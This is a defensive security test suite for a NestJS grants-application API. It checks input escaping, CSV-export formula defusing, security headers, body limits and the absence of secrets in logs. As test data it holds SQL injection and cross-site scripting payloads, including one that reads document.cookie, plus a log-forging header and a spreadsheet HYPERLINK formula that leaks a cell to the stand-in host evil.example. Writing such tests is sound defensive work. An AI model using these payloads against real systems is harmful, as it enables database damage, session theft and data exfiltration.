import { Logger as NestLogger } from '@nestjs/common';
import { Logger, PinoLogger } from 'nestjs-pino';
import { applicationBody } from '../factories/call.factory';
import { login, uniqueBusinessId } from '../factories/identity.factory';
import { startTestApi, TestApi, withEnv } from '../helpers/api';
import { Fingerprint, freshSuiteStores, isolateSuite, problemFault } from './support';
import { buildWorld, PRACTICE, World } from './world';

isolateSuite('input');

/** Text that breaks naive SQL, HTML, template and escaping code, and the letters Finnish and Swedish need. */
const HOSTILE = [
  "'; DROP TABLE applications; --",
  "Robert'); DROP TABLE organizations;--",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(document.cookie)">',
  'back\\slash \\\\ and \\u0000 written out, `backticks`',
  '%s %d ${7*7} {{7*7}} #{7*7}',
  'Åbo Akademi – Vörå, Närpes & Jyväskylä: ÅÄÖ åäö',
  'Ελληνικά 😀 中文 עברית',
];

/** A formula a spreadsheet would run if the CSV export passed it through. */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")';

/**
 * The service's JSON log lines, as pino writes them to stdout. pino picks its destination when the
 * process's first app starts (a patched process.stdout.write is used as is), so this suite's API is
 * started with LOG_LEVEL=info and stdout patched from the beginning; lines are kept only while a
 * test listens, and otherwise dropped.
 */
const stdout = {
  original: process.stdout.write,
  lines: undefined as string[] | undefined,
  install() {
    process.stdout.write = ((chunk: string | Uint8Array) => {
      stdout.lines?.push(Buffer.from(chunk).toString('utf8'));
      return true;
    }) as typeof process.stdout.write;
  },
  restore() {
    process.stdout.write = stdout.original;
  },
};

describe('security: hostile input', () => {
  let api: TestApi;
  let world: World;
  let fingerprint: Fingerprint;

  const as = (token: string) => ({
    get: (url: string) => api.http().get(url).set('authorization', `Bearer ${token}`),
    post: (url: string, body: object) => api.http().post(url).set('authorization', `Bearer ${token}`).send(body),
    patch: (url: string, body: object) => api.http().patch(url).set('authorization', `Bearer ${token}`).send(body),
  });

  beforeAll(async () => {
    await freshSuiteStores();
    stdout.install();
    api = await withEnv({ LOG_LEVEL: 'info' }, startTestApi);
    world = await buildWorld(api, { leadTitle: FORMULA });
    // The world's worker is created with `logger: false`, which silences Nest's shared Logger in the
    // whole process; give the API its own logger back, as it has in production.
    api.app.useLogger(api.app.get(Logger));
    fingerprint = await Fingerprint.of(api);
  }, 120_000);
  afterAll(async () => {
    await api?.close();
    stdout.restore();
  });

  const tablesStillThere = async () => {
    const [row] = await api.db.query(`SELECT to_regclass('applications') AS a, to_regclass('organizations') AS o`);
    expect(row.a).not.toBeNull();
    expect(row.o).not.toBeNull();
  };

  describe('SQL and HTML metacharacters and Nordic letters', () => {
    it.each(HOSTILE)('stores and returns an organisation name verbatim: %s', async (text) => {
      const created = await as(world.admin)
        .post('/api/organizations', { name: text, municipality: text, businessId: uniqueBusinessId(), kind: 'company' })
        .expect(201);
      expect(created.body).toMatchObject({ name: text, municipality: text });
      const read = await as(world.lead.token).get(`/api/organizations/${created.body.id}`).expect(200);
      expect(read.body).toMatchObject({ name: text, municipality: text });
      const list = await as(world.lead.token).get('/api/organizations').expect(200);
      expect(list.body.filter((o: { name: string }) => o.name === text)).toHaveLength(1);
      await tablesStillThere();
    });

    it.each(HOSTILE)(
      'stores and returns an application’s title, summary, partner and budget line verbatim, created and edited: %s',
      async (text) => {
        const created = await as(world.lead.token)
          .post(
            `/api/calls/${world.openCall}/applications`,
            applicationBody({
              title: text,
              summary: `${text}\n${text}`,
              partners: [{ name: text, kind: 'third_sector' }],
              budget: [{ item: text, amount: 70_000_000 }],
            }),
          )
          .expect(201);
        const read = await as(world.lead.token).get(`/api/applications/${created.body.id}`).expect(200);
        expect(read.body).toMatchObject({
          title: text,
          summary: `${text}\n${text}`,
          partners: [{ name: text, kind: 'third_sector' }],
          budget: [{ item: text, amount: 70_000_000 }],
        });
        // Returned as JSON that browsers must not sniff into HTML.
        expect(read.headers['content-type']).toMatch(/^application\/json/);
        expect(read.headers['x-content-type-options']).toBe('nosniff');

        const edited = await as(world.lead.token)
          .patch(`/api/applications/${created.body.id}`, { version: 1, title: `${text} (2)` })
          .expect(200);
        expect(edited.body.title).toBe(`${text} (2)`);
        const again = await as(world.lead.token).get(`/api/applications/${created.body.id}`).expect(200);
        expect(again.body).toMatchObject({ title: `${text} (2)`, summary: `${text}\n${text}` });
        await tablesStillThere();
      },
    );

    it.each(HOSTILE)('stores and returns a practice verbatim, and searching for its text executes nothing: %s', async (text) => {
      const created = await as(world.lead.token)
        .post(`/api/network-projects/${world.project}/practices`, {
          ...PRACTICE,
          title: text,
          needs: text,
          solution: text,
          results: text,
          contacts: [{ name: text, title: text }],
        })
        .expect(201);
      const read = await as(world.outsiders.applicant.token).get(`/api/practices/${created.body.id}`).expect(200);
      expect(read.body).toMatchObject({ title: text, needs: text, solution: text, results: text, contacts: [{ name: text, title: text }] });
      const search = await as(world.outsiders.applicant.token)
        .get(`/api/practices?q=${encodeURIComponent(text)}`)
        .expect(200);
      expect(Array.isArray(search.body)).toBe(true);
      await tablesStillThere();
    });

    it('treats metacharacters in path and query parameters as data: 400 for malformed ids and filters, never 5xx', async () => {
      const hostile = encodeURIComponent("' OR '1'='1' --");
      for (const url of [
        `/api/applications/${hostile}`,
        `/api/applications?callId=${hostile}`,
        `/api/applications?status=${hostile}`,
        `/api/network-projects?callId=${hostile}`,
        `/api/network-projects/${world.project}/reports/${hostile}`,
        `/api/practices?level=${hostile}`,
        `/api/calls/${world.closedCall}/ranking?category=${hostile}`,
        `/api/users?organizationId=${hostile}`,
      ]) {
        const res = await as(world.admin).get(url);
        expect([url, res.status]).toEqual([url, 400]);
        expect(problemFault(res)).toBeUndefined();
      }
      const attachment = await as(world.admin).get(`/api/network-projects/${world.project}/reports/${hostile}/attachment`);
      expect(attachment.status).toBe(404);
      await tablesStillThere();
    });

    it('defuses a spreadsheet formula in an application title in the ranking and coordination CSV exports', async () => {
      const quoted = `"'${FORMULA.replace(/"/g, '""')}"`;
      const ranking = await as(world.admin).get(`/api/calls/${world.closedCall}/ranking`).set('accept', 'text/csv').expect(200);
      expect(ranking.text).toContain(quoted);
      expect(ranking.text).not.toMatch(/(^|;)=HYPERLINK/m);
      const overview = await as(world.coordinator.token)
        .get(`/api/calls/${world.closedCall}/coordination`)
        .set('accept', 'text/csv')
        .expect(200);
      expect(overview.text).toContain(quoted);
      expect(overview.text).not.toMatch(/(^|;)=HYPERLINK/m);
    });
  });

  describe('security headers', () => {
    it('come with every kind of response: data, the docs page, a problem, a 401 and an unknown route', async () => {
      const responses = [
        await as(world.lead.token).get('/api/applications').expect(200),
        await api.http().get('/api/docs').expect(200),
        await as(world.lead.token).post('/api/organizations', { name: 'x', businessId: 'not-a-y-tunnus' }),
        await api.http().get('/api/applications').expect(401),
        await api.http().get('/api/no-such-route').expect(404),
      ];
      expect(responses[2].status).toBeGreaterThanOrEqual(400);
      for (const res of responses) {
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
        expect(res.headers['strict-transport-security']).toMatch(/max-age=\d+/);
        expect(res.headers['content-security-policy']).toContain("default-src 'self'");
        expect(res.headers['content-security-policy']).toContain("object-src 'none'");
        expect(res.headers['x-powered-by']).toBeUndefined();
      }
    });
  });

  describe('null bytes', () => {
    it('refuses a null byte in an organisation name, an application title or summary and a practice with 400 VALIDATION_FAILED, storing nothing', async () => {
      const before = await fingerprint.take();
      const attempts = [
        as(world.admin).post('/api/organizations', { name: 'Nolla\u0000tavu Oy', businessId: uniqueBusinessId(), kind: 'company' }),
        as(world.lead.token).post(`/api/calls/${world.openCall}/applications`, applicationBody({ title: 'Otsikko\u0000' })),
        as(world.lead.token).post(`/api/calls/${world.openCall}/applications`, applicationBody({ summary: '\u0000' })),
        as(world.lead.token).patch(`/api/applications/${world.draftApplication}`, { version: 1, title: 'a\u0000b' }),
        as(world.lead.token).post(`/api/network-projects/${world.project}/practices`, { ...PRACTICE, title: 'Käytäntö\u0000' }),
      ];
      const answers = (await Promise.all(attempts)).map((r) => [r.status, r.body.code]);
      expect(answers).toEqual(attempts.map(() => [400, 'VALIDATION_FAILED']));
      expect(Fingerprint.changed(before, await fingerprint.take())).toEqual([]);
    });
  });

  describe('body size', () => {
    it('answers a JSON body over 1 MiB with 413 PAYLOAD_TOO_LARGE problem+json, before anything is stored', async () => {
      const before = await fingerprint.take();
      const big = 'ä'.repeat(600 * 1024); // 1.2 MB in UTF-8
      const answers = await Promise.all([
        as(world.lead.token).post(`/api/calls/${world.openCall}/applications`, applicationBody({ summary: big })),
        as(world.lead.token).patch(`/api/applications/${world.draftApplication}`, { version: 1, summary: big }),
        as(world.admin).post('/api/organizations', { name: big, businessId: uniqueBusinessId(), kind: 'company' }),
        api.http().post('/api/auth/login').send({ email: world.lead.email, password: big }),
      ]);
      for (const res of answers) {
        expect(res.status).toBe(413);
        expect(problemFault(res)).toBeUndefined();
        expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
      }
      expect(Fingerprint.changed(before, await fingerprint.take())).toEqual([]);
    });

    it('refuses a body nested 10 000 levels deep (40 KB) with 400, even from an anonymous caller on the public login', async () => {
      const open = Array.from({ length: 10_000 }, (_, i) => (i % 2 ? '[' : '{"a":'));
      const deep = `${open.join('')}1${open
        .map((o) => (o === '[' ? ']' : '}'))
        .reverse()
        .join('')}`;
      const res = await api.http().post('/api/auth/login').set('content-type', 'application/json').send(`{"email":${deep},"password":"x"}`);
      expect([res.status, res.body.code]).toEqual([400, 'VALIDATION_FAILED']);
    });

    it('refuses text over a field’s limit (but under the body limit) with 400 naming the field, storing nothing', async () => {
      const before = await fingerprint.take();
      const res = await as(world.lead.token)
        .post(`/api/calls/${world.openCall}/applications`, applicationBody({ summary: 'x'.repeat(20_001), title: 'y'.repeat(501) }))
        .expect(400);
      expect(res.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['summary', 'title']);
      expect(Fingerprint.changed(before, await fingerprint.take())).toEqual([]);
    });
  });

  describe('logs', () => {
    it('tag each request line with the caller’s x-request-id when it is a plain token, else with a new id', async () => {
      stdout.lines = [];
      try {
        await api.http().get('/api/no-such-route').set('x-request-id', 'jaljitys-42.a').expect(404);
        await api.http().get('/api/no-such-route').set('x-request-id', '"}, "forged": true, "x":"').expect(404);
      } finally {
        new NestLogger('SecurityTest').log('end of the request id capture');
      }
      const lines = stdout.lines
        .join('')
        .split('\n')
        .filter((l) => l.includes('"url":"/api/no-such-route"'))
        .map((l) => JSON.parse(l) as { reqId: string; forged?: unknown });
      stdout.lines = undefined;
      expect(lines).toHaveLength(2);
      expect(lines[0].reqId).toBe('jaljitys-42.a');
      expect(lines[1].reqId).toMatch(/^[0-9a-f-]{36}$/);
      expect(lines[1].forged).toBeUndefined();
    });

    it.each(['info', 'trace'])('never writes a password, a password hash or an access token to the logs (at level %s)', async (level) => {
      const secrets = {
        created: `Salasana-ÅÄÖ-${level}-4417-ei-lokiin`,
        wrong: `Väärä-salasana-${level}-9931`,
        invalid: `Hylätty-salasana-${level}-5120`,
        failing: `Kaatuva-salasana-${level}-7702`,
        admin: process.env.ADMIN_PASSWORD as string,
      };
      const root = PinoLogger.root as { level: string };
      stdout.lines = [];
      root.level = level;
      let tokens: string[];
      try {
        const admin = await login(api, process.env.ADMIN_EMAIL as string, secrets.admin);
        const email = `lokitesti-${level}@avustus.test`;
        const user = (body: object) => api.http().post('/api/users').set('authorization', `Bearer ${admin}`).send(body);
        const fields = { email, name: 'Loki Testaaja', roles: ['applicant'], organizationId: world.orgs.lead.id };
        await user({ ...fields, password: secrets.created }).expect(201);
        const token = await login(api, email, secrets.created);
        await api.http().get('/api/auth/me').set('authorization', `Bearer ${token}`).expect(200);
        await api.http().post('/api/auth/login').send({ email, password: secrets.wrong }).expect(401);
        await user({ ...fields, email: 'not-an-email', password: secrets.invalid }).expect(400);
        // A request that fails on the server's side has its error logged in full: still no password in it.
        await user({ ...fields, email: `kaatuva-${level}@avustus.test`, name: 'Nolla\u0000', password: secrets.failing });
        tokens = [admin, token];
      } finally {
        root.level = 'info';
      }
      new NestLogger('SecurityTest').log(`end of the ${level} capture`);
      const output = stdout.lines.join('');
      stdout.lines = undefined;
      // The capture works: the requests above were logged, and so is what the services log.
      expect(output).toContain(`end of the ${level} capture`);
      expect(output).toMatch(/"url":"\/api\/auth\/login"/);
      expect(output).toMatch(/"url":"\/api\/users"/);
      for (const [name, secret] of Object.entries({ ...secrets, adminToken: tokens[0], userToken: tokens[1] })) {
        expect([name, output.includes(secret)]).toEqual([name, false]);
      }
      expect(output).not.toMatch(/\$argon2/);
      // The audit trail is a log too.
      const [{ n }] = await api.db.query(
        `SELECT count(*)::int AS n FROM audit_events WHERE strpos(coalesce(before::text, '') || coalesce(after::text, ''), $1) > 0
            OR strpos(coalesce(before::text, '') || coalesce(after::text, ''), $2) > 0`,
        [secrets.created, '$argon2'],
      );
      expect(n).toBe(0);
    });
  });
});
